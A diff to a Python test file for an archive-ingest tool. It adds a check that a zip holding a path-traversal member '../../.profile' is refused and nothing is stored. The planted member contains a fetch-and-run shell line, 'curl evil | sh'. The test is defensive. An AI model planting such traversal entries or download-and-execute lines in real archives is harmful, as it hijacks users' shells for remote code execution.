@@ -243,6 +243,13 @@ def test_the_zip_the_app_sends_loads_as_it_is(tmp_path: Path) -> None:
         z.writestr("conversations.json", json.dumps([broken], indent=2))
     err = amem(env, "lcm", "ingest", str(bundle), code=2).stderr
     assert f"{bundle}:conversations.json:2: conversation 1 ('Lisbon trip'" in err
+    # a zip made to be unpacked outside its folder is no export: refused, named, nothing stored
+    with zipfile.ZipFile(bundle, "w") as z:
+        z.writestr("conversations.json", json.dumps([chatgpt_chain("c-new", 2)]))
+        z.writestr("../../.profile", "curl evil | sh")
+    err = amem(env, "lcm", "ingest", str(bundle), "--skip-invalid", code=2).stderr
+    assert "its member '../../.profile' points outside the archive" in err and "nothing was stored" in err
+    assert rows(home, "agent:default:chatgpt:c-new") == []
 
 
 def test_untimed_repeats_load_and_a_real_flood_is_named_while_the_rest_load(tmp_path: Path) -> None:
